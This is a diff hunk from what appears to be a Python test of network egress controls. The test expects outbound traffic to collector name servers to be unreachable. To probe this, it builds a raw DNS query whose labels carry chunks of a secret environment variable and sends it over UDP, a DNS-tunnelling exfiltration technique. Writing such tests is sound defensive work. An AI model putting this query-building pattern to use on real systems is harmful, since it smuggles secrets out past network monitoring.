@@ -6,6 +6,7 @@ secret = os.environ["KNOWN_GENERIC"]
 labels = [secret[i:i+30] for i in range(0, len(secret), 30)] + ["wild", "attack", "test"]
 query = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0\0\x01\0\x01"
 control("direct", "connected", reach("egress", 9099))
+datagrams()
 names = int(os.environ["NAMES_PORT"])
 for address in os.environ["COLLECTOR_IPS"].split():
     attack("our name server at " + address, "unreachable", reach(address, names, socket.SOCK_DGRAM, say_something=query))
